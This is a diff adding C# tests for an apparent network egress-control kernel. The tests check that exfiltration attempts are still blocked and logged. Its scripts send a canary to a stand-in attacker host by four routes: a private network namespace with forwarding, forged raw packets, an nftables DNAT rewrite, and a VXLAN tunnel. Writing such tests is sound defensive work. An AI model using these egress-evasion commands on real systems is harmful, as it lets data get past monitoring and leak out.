@@ -1,0 +1,97 @@
+namespace Sallyport.Kernel.Tests;
+
+/// <summary>Technique N14 and HARDENING rule 4: the way changes after the verdict.</summary>
+public sealed class WayTests(LabFixture fixture) : KernelTest(fixture)
+{
+    /// <summary>A namespace $p of the job's own behind a veth, with the client's namespace as its router.</summary>
+    private const string OwnNamespace =
+        """
+        unshare --net sleep 30 & p=$!
+        until [ "$(readlink /proc/$p/ns/net)" != "$(readlink /proc/self/ns/net)" ]; do :; done
+        trap 'kill $p; ip link del in0' EXIT
+        ip link add in0 type veth peer name in1 netns $p
+        ip addr add 10.77.0.1/24 dev in0 && ip link set in0 up
+        nsenter -t $p -n sh -ec "ip link set lo up; ip addr add 10.77.0.2/24 dev in1; ip link set in1 up"
+        nsenter -t $p -n ip route add default via 10.77.0.1
+        echo 1 > /proc/sys/net/ipv4/ip_forward
+        """;
+
+    [Theory]
+    [EveryMode]
+    public Task A_network_namespace_of_the_jobs_own_is_no_way_out(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            OwnNamespace, $"nsenter -t $p -n {Program("udp")} sendto {Attacker} 5300 {Canary} || echo refused"),
+        Row = Row.Connection("udp", 5300, Attacker),
+        Reasons = ["no-rule"],
+        Exe = "udp",
+        Silent = (Attacker, 5300),
+    });
+
+    [Theory]
+    [EveryMode]
+    public Task A_frame_that_comes_out_of_the_jobs_own_namespace_is_judged_at_the_uplink(LabMode mode) =>
+        ProveAsync(mode, new Attack
+        {
+            Command = Script(
+                OwnNamespace,
+                $"nsenter -t $p -n {Program("raw")} packet in1 10.77.0.2 {Attacker} 5300 {Canary}"
+                    + " $(ip -o link show in0 | sed 's/.*ether \\([^ ]*\\).*/\\1/') || echo refused"),
+            Row = Row.Connection("udp", 5300, Attacker),
+            Reasons = ["no-rule", "packet-socket"],
+            Exe = null,
+            Silent = (Attacker, 5300),
+        });
+
+    [Theory]
+    [EveryMode]
+    public Task A_destination_rewritten_by_NAT_is_judged_as_it_leaves(LabMode mode)
+    {
+        Assert.SkipUnless(File.Exists("/usr/sbin/nft"), "nft (package nftables) is not installed");
+        return ProveAsync(mode, new Attack
+        {
+            Command = Script(
+                "nft add table ip lab",
+                "trap 'nft delete table ip lab' EXIT",
+                "nft add chain ip lab out '{ type nat hook output priority -100; }'",
+                $"nft add rule ip lab out ip daddr {Allowed} tcp dport 4443 dnat to {Attacker}:4443",
+                $"{Program("tcp")} connect {Allowed} 4443 {Canary} || echo refused") with
+            {
+                Allow = [$"tcp://{Allowed}:4443"],
+            },
+            Row = Row.Connection("tcp", 4443, Attacker),
+            Reasons = ["rewritten", "no-rule"],
+            Exe = "tcp",
+            Silent = (Attacker, 4443),
+        });
+    }
+
+    [Theory]
+    [EveryMode]
+    public Task A_tunnel_is_judged_by_its_outer_header(LabMode mode) => ProveAsync(mode, new Attack
+    {
+        Command = Script(
+            $"ip link add vx0 type vxlan id 7 remote {Attacker} dstport 4789 dev lab0 || exit 3",
+            "trap 'ip link del vx0' EXIT",
+            "ip addr add 198.51.100.241/29 dev vx0 && ip link set vx0 up",
+            "ip neigh add 198.51.100.242 lladdr 02:00:00:00:00:02 dev vx0",
+            $"{Program("udp")} sendto 198.51.100.242 9 {Canary} || echo refused") with
+        {
+            Allow = ["udp://198.51.100.242:9"],
+        },
+        Row = Row.Connection("udp", 4789, Attacker),
+        Reasons = ["rewritten", "no-rule"],
+        Exe = null,
+        Silent = (Attacker, 4789),
+    });
+
+    [Fact]
+    public async Task Traffic_between_the_jobs_own_namespaces_is_not_egress()
+    {
+        await PassAsync(Script(
+            OwnNamespace,
+            $"nsenter -t $p -n {Program("tcp")} listen 9200 {Canary} &",
+            "until nsenter -t $p -n ss -ltn | grep -q :9200; do :; done",
+            $"{Program("tcp")} connect 10.77.0.2 9200 hello"));
+    }
+}
